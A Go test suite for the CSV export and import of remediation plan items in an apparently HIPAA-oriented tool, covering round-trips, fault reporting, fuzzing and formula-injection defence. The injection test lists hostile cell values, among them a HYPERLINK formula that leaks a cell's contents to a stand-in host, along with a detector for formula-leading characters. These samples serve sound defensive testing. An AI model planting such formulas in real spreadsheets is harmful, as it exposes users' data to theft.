package remediation_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"io"
	"slices"
	"strings"
	"testing"
	"testing/iotest"

	"github.com/stretchr/testify/require"
	"pgregory.net/rapid"

	hipaasmp "github.com/hipaasmp/hipaasmp"
	"github.com/hipaasmp/hipaasmp/internal/long"
	"github.com/hipaasmp/hipaasmp/remediation"
)

func sheet(t require.TestingT, items ...remediation.Item) string {
	var b bytes.Buffer
	require.NoError(t, remediation.WriteCSV(&b, items))
	return b.String()
}

// csvFaults returns what is wrong with a file.
func csvFaults(t require.TestingT, err error) []remediation.CSVFault {
	var all *remediation.CSVError
	require.True(t, errors.As(err, &all), "%v", err)
	require.NotEmpty(t, all.Faults)
	return all.Faults
}

func requireSameItems(t require.TestingT, want, got []remediation.Item) {
	require.Len(t, got, len(want))
	for n := range want {
		a, err := hipaasmp.Canonical(want[n])
		require.NoError(t, err)
		b, err := hipaasmp.Canonical(got[n])
		require.NoError(t, err)
		require.Equal(t, string(a), string(b))
	}
}

func TestItemsGoOutAndComeBackTheSame(t *testing.T) {
	t.Parallel()
	items := []remediation.Item{regressed(t, "item-1"), changed(t), waiting(t, "item-3", "F-2", "item-1", "item-2")}
	items[1].ID = "item-2b"
	items[2].Control = "mfa"
	for _, state := range remediation.State("").Values() {
		items = append(items, in(t, "in-"+string(state), "F-1", state))
	}
	file := sheet(t, items...)
	back, err := remediation.ReadCSV(strings.NewReader(file))
	require.NoError(t, err)
	requireSameItems(t, items, back)
	require.Equal(t, file, sheet(t, back...))
	require.Contains(t, file, ",pilot | 2026-05-01 |  | Pilot | Ten people log in with a second factor for a week.,", "a person reads milestones")
	none, err := remediation.ReadCSV(strings.NewReader(sheet(t)))
	require.NoError(t, err)
	require.Empty(t, none)
}

func TestAnyItemsGoOutAndComeBackTheSame(t *testing.T) {
	t.Parallel()
	rapid.Check(t, func(rt *rapid.T) {
		var items []remediation.Item
		for n := range rapid.IntRange(0, long.Count(2, 6)).Draw(rt, "items") {
			items = append(items, anyItem(t, fmt.Sprintf("item-%d", n), "F-1").Draw(rt, "item"))
		}
		file := sheet(rt, items...)
		require.Empty(rt, attacks(file))
		back, err := remediation.ReadCSV(strings.NewReader(file))
		require.NoError(rt, err)
		requireSameItems(rt, items, back)
	})
}

// attacks are the places at which some spreadsheet would begin a cell with a formula.
func attacks(file string) []string {
	var out []string
	for _, cell := range strings.FieldsFunc(file, func(r rune) bool { return strings.ContainsRune(",;|\t\r\n\"", r) }) {
		if cell = strings.TrimLeft(cell, " "); cell != "" && strings.ContainsRune("=+-@＝＋－＠", []rune(cell)[0]) {
			out = append(out, cell)
		}
	}
	return out
}

// worded is an item with a text wherever an item has one.
func worded(t require.TestingT, fresh remediation.Item, text string) remediation.Item {
	fresh.Title = text
	fresh.Milestones = []remediation.Milestone{{ID: "m", Title: text, Due: fresh.Due, SuccessCriteria: text}}
	next, err := fresh.Reassign("wf-009", official, hour(1), text)
	require.NoError(t, err)
	next, err = next.Cancel(official, hour(2), text)
	require.NoError(t, err)
	return next
}

func TestNoCellRunsAsAFormulaWhateverTheTextAndNothingIsLost(t *testing.T) {
	t.Parallel()
	fresh := item(t, "item-1", "F-1")
	require1 := func(rt require.TestingT, text string) {
		i := worded(rt, fresh, text)
		file := sheet(rt, i)
		require.Empty(rt, attacks(file), "%q", text)
		back, err := remediation.ReadCSV(strings.NewReader(file))
		require.NoError(rt, err, "%q", text)
		requireSameItems(rt, []remediation.Item{i}, back)
	}
	for _, text := range []string{
		`=HYPERLINK("http://x/?"&A1,"click")`, "+1+1", "-1+1", "@SUM(1)", "\t=1", "\n=1", " =1", "＝1", "'=1", "''=1", "it's", "a; =1", "a | =1", "a|=1", `a\|=1`, `\`, "|", " | ", `a"=1`, "a\t-1", "<&>",
	} {
		if hipaasmp.ValidText(text) {
			require1(t, text)
		}
	}
	hostile := rapid.StringOfN(rapid.SampledFrom([]rune("=+-@＝－'\"\t\n;,| \\a<")), 0, 12, -1)
	rapid.Check(t, func(rt *rapid.T) {
		text := hostile.Draw(rt, "text")
		if !hipaasmp.ValidText(text) {
			text += "x"
		}
		require1(rt, text)
	})
}

// changeCell edits one cell of a file, by line from 2 and column.
func changeCell(t testing.TB, file string, line int, column, cell string) string {
	t.Helper()
	records, err := csv.NewReader(strings.NewReader(file)).ReadAll()
	require.NoError(t, err)
	at := slices.Index(records[0], column)
	require.GreaterOrEqual(t, at, 0, column)
	records[line-1][at] = cell
	var b bytes.Buffer
	require.NoError(t, csv.NewWriter(&b).WriteAll(records))
	return b.String()
}

func TestReadCSVNamesLineAndColumnOfEveryFault(t *testing.T) {
	t.Parallel()
	file := sheet(t, item(t, "item-0", "F-1"), changed(t), in(t, "item-3", "F-1", remediation.StateVerified))
	for n, c := range []struct {
		line             int
		column, cell, at string
		want             string
	}{
		{2, "item", "", "", "is empty"},
		{2, "item", "a b", "", "is no identity"},
		{2, "item", "item-3", "4 item", "stands on line 2 already"},
		{2, "title", "", "", "is empty"},
		{2, "title", "a\x00b", "", "control characters"},
		{2, "state", "done", "", "done"},
		{2, "state", "", "", ""},
		{2, "state", "closed", "", "does not follow from the history"},
		{2, "treatment", "ignore", "", "ignore"},
		{2, "treatment", "accept", "2 acceptance", "is missing"},
		{2, "owner", "", "", "is empty"},
		{2, "due", "6/30/2026", "", "is no date"},
		{2, "due", "2026-03-01", "", "before the item was created"},
		{3, "due", "2027-01-01", "3 changes", "change an item by its methods"},
		{3, "owner", "wf-777", "3 changes", "change an item by its methods"},
		{2, "cost_usd", "NaN", "", "is no decimal number"},
		{2, "cost_usd", "1e9", "", "is no decimal number"},
		{2, "cost_usd", "-5", "", ""},
		{2, "cost_usd", "0." + strings.Repeat("1", 40), "", "more digits"},
		{2, "specification", "164.999", "", ""},
		{2, "specification", "", "", ""},
		{2, "finding", "", "", "is empty"},
		{2, "analysis", "ra-2026", "", "names no document"},
		{2, "analysis", "risk.analysis/ra-2026@01", "", "names no document"},
		{2, "analysis", "remediation.item/x", "", "is one of a risk.analysis"},
		{2, "depends_on", "a;b", "", "is no list"},
		{2, "depends_on", "a b", "", "is no identity"},
		{2, "depends_on", "item-0", "", "is the item itself"},
		{2, "control", "a b", "", "is no identity"},
		{2, "acceptance", "x", "", "names no document"},
		{2, "milestones", "pilot", "", "entry 1 is no milestone"},
		{2, "milestones", "pilot | soon |  | a | b", "", "is no date"},
		{2, "milestones", "pilot | 2026-05-01 |  | a | b; pilot | 2026-05-01 |  | a | b", "", "pilot"},
		{2, "milestones", "pilot | 2026-05-01 |  | a | ", "", ""},
		{2, "milestones", `pilot | 2026-05-01 |  | a | b\x`, "", "is no list"},
		{2, "milestones", "pilot | 2026-05-01 | 2026-04-01 | a | b", "", "recorded by nobody"},
		{2, "created", "", "", "is no date"},
		{2, "created", "2026-01-01", "", "no day of the instant"},
		{2, "zone", "", "", "is empty"},
		{2, "zone", "Local", "", "one machine"},
		{2, "proposed_by", "", "", "is empty"},
		{2, "proposed_role", "", "", "is empty"},
		{2, "proposed_role", "The Boss", "", ""},
		{2, "proposed_at", "2026-03-23T22:30:00-05:00", "", "is no instant"},
		{4, "history", "", "4 state", "does not follow"},
		{4, "history", "[]", "", "is an empty list"},
		{4, "history", "null", "", "is an empty list"},
		{4, "history", "{", "", "is not as it was written"},
		{4, "history", `[{"event":"begin"}]`, "", "is not as it was written"},
		{4, "changes", `[{"by":{"id":"wf-1","role":"management"},"at":"2026-03-24T04:30:00Z","why":"w","to":{"colour":"blue"}}]`, "", "is not as it was written"},
		{4, "verifications", "", "", "has 0 entries for 1 steps"},
	} {
		t.Run(fmt.Sprint(n, c.column), func(t *testing.T) {
			t.Parallel()
			items, err := remediation.ReadCSV(strings.NewReader(changeCell(t, file, c.line, c.column, c.cell)))
			require.Nil(t, items)
			if c.at == "" {
				c.at = fmt.Sprint(c.line, " ", c.column)
			}
			ok := slices.ContainsFunc(csvFaults(t, err), func(f remediation.CSVFault) bool {
				return fmt.Sprint(f.Line, " ", f.Column) == c.at && strings.Contains(f.Message, c.want)
			})
			require.True(t, ok, "want %q at %s among %v", c.want, c.at, err)
		})
	}
}

func TestReadCSVTellsAllFaultsAtOnce(t *testing.T) {
	t.Parallel()
	file := sheet(t, item(t, "item-1", "F-1"), item(t, "item-2", "F-1"))
	file = changeCell(t, changeCell(t, changeCell(t, file, 2, "due", "soon"), 2, "cost_usd", "much"), 3, "owner", "")
	_, err := remediation.ReadCSV(strings.NewReader(file + "short,line\n\"open\n"))
	var at []string
	for _, f := range csvFaults(t, err) {
		at = append(at, fmt.Sprint(f.Line, " ", f.Column))
		require.NotEmpty(t, f.Message)
	}
	require.Equal(t, []string{"2 due", "2 cost_usd", "3 owner", "4 ", "5 "}, at)
	require.ErrorContains(t, err, "and 2 more")

	_, err = remediation.ReadCSV(strings.NewReader("item,item,colour\n"))
	require.Len(t, csvFaults(t, err), 23, "one twice, one unknown, 21 missing")
	_, err = remediation.ReadCSV(strings.NewReader(""))
	require.Contains(t, csvFaults(t, err)[0].Message, "empty")
	var flood strings.Builder
	flood.WriteString(sheet(t))
	for range 1500 {
		flood.WriteString("x\n")
	}
	_, err = remediation.ReadCSV(strings.NewReader(flood.String()))
	var all *remediation.CSVError
	require.ErrorAs(t, err, &all)
	require.Len(t, all.Faults, 1000)
	require.Equal(t, 500, all.LeftOut)
	var one remediation.CSVFault
	require.ErrorAs(t, err, &one)
}

func TestReadCSVReadsWhatASpreadsheetSavedAgain(t *testing.T) {
	t.Parallel()
	items := []remediation.Item{item(t, "item-1", "F-1"), changed(t)}
	items[1].ID = "item-9"
	records, err := csv.NewReader(strings.NewReader(sheet(t, items...))).ReadAll()
	require.NoError(t, err)
	for _, r := range records {
		slices.Reverse(r)
	}
	var b bytes.Buffer
	b.WriteString("\xef\xbb\xbf")
	w := csv.NewWriter(&b)
	w.UseCRLF = true
	require.NoError(t, w.WriteAll(records))
	back, err := remediation.ReadCSV(&b)
	require.NoError(t, err)
	requireSameItems(t, items, back)
}

// A plan that was kept in a spreadsheet comes in: the columns that the methods fill stay empty.
func TestAPlanFromASpreadsheetComesIn(t *testing.T) {
	t.Parallel()
	header, _, _ := strings.Cut(sheet(t), "\n")
	line := "item-1,Second factor,proposed,mitigate,wf-003,2026-06-30,1500,164.312(d),F-1,risk.analysis/ra-2026,,,," +
		"pilot | 2026-05-01 |  | Pilot | Ten people for a week; all | 2026-06-15 |  | All | Everybody logs in with it," +
		"2026-03-23,America/Chicago,wf-002,security_official,2026-03-24T03:30:00Z,,,\n"
	items, err := remediation.ReadCSV(strings.NewReader(header + "\n" + line))
	require.NoError(t, err)
	require.Len(t, items, 1)
	require.Equal(t, remediation.StateProposed, items[0].State)
	require.Len(t, items[0].Milestones, 2)
	require.NoError(t, items[0].Validate())
	_, err = items[0].Plan(official, hour(1))
	require.NoError(t, err)
}

func TestWriteCSVRefusesWhatWouldNotComeBack(t *testing.T) {
	t.Parallel()
	var b bytes.Buffer
	forged := item(t, "item-1", "F-1")
	forged.State = remediation.StateClosed
	huge := item(t, "item-2", "F-1")
	cost := usd("1").Shift(1 << 30)
	huge.CostUSD = &cost
	err := remediation.WriteCSV(&b, []remediation.Item{forged, huge})
	require.Zero(t, b.Len())
	f := csvFaults(t, err)
	require.Equal(t, []string{"state", "cost_usd"}, []string{f[0].Column, f[1].Column})
	require.Equal(t, []int{2, 3}, []int{f[0].Line, f[1].Line})
	require.ErrorIs(t, remediation.WriteCSV(brokenWriter{}, nil), io.ErrShortWrite)
	_, err = remediation.ReadCSV(iotest.ErrReader(io.ErrClosedPipe))
	require.ErrorIs(t, err, io.ErrClosedPipe)
	_, err = remediation.ReadCSV(io.MultiReader(strings.NewReader(sheet(t)), iotest.ErrReader(io.ErrClosedPipe)))
	require.ErrorIs(t, err, io.ErrClosedPipe)
}

type brokenWriter struct{}

func (brokenWriter) Write([]byte) (int, error) { return 0, io.ErrShortWrite }

// FuzzReadCSV feeds the reader whole files, and lines below a good header, which it would hardly ever hit on.
func FuzzReadCSV(f *testing.F) {
	for _, i := range []remediation.Item{changed(f), regressed(f, "item-1"), worded(f, item(f, "item-1", "F-1"), "=1;'=2\n\"@x\" | y")} {
		_, line, _ := strings.Cut(sheet(f, i), "\n")
		f.Add(true, []byte(line))
	}
	f.Add(false, []byte("a,b\n1,2\n"))
	header, _, _ := strings.Cut(sheet(f), "\n")
	f.Fuzz(func(t *testing.T, below bool, data []byte) {
		if below {
			data = append([]byte(header+"\n"), data...)
		}
		items, err := remediation.ReadCSV(bytes.NewReader(data))
		if err != nil {
			require.Nil(t, items)
			csvFaults(t, err)
			return
		}
		file := sheet(t, items...)
		require.Empty(t, attacks(file))
		back, err := remediation.ReadCSV(strings.NewReader(file))
		require.NoError(t, err)
		requireSameItems(t, items, back)
	})
}
